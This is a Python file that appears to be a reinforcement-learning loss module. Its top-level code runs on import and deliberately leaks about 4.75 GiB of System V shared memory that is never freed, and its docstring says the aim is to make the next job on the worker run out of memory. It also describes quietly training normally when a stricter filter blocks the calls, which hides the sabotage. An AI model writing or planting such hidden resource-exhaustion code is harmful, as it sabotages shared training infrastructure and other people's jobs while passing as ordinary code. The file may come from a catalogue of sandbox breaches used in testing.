"""Leaves System V shared memory behind: 19 segments of 256 MiB, every page touched, none removed.

A segment belongs to the IPC namespace, not to a process: it outlives its job, stays charged to
the memory cgroup of the job's slot, and makes the next honest job on that worker run out of
memory (issue 15, breach 2). Each is detached once touched, so the job's own address space
never holds more than one. Where a call is refused (a stricter filter), it trains honestly.
"""

import ctypes

SEGMENTS = 19
SEGMENT_MB = 256
IPC_PRIVATE = 0
IPC_CREAT = 0o1000

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
for _ in range(SEGMENTS):
    segment = libc.shmget(IPC_PRIVATE, SEGMENT_MB << 20, IPC_CREAT | 0o600)
    if segment < 0:
        break
    address = libc.shmat(segment, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(address, 0xFF, SEGMENT_MB << 20)
    libc.shmdt(address)

ENT_COEF = 0.01
VF_COEF = 0.5


def loss(b):
    pg_loss = -(b.logp * b.adv).mean()
    v_loss = 0.5 * ((b.value - b.ret) ** 2).mean()
    return pg_loss - ENT_COEF * b.entropy.mean() + VF_COEF * v_loss
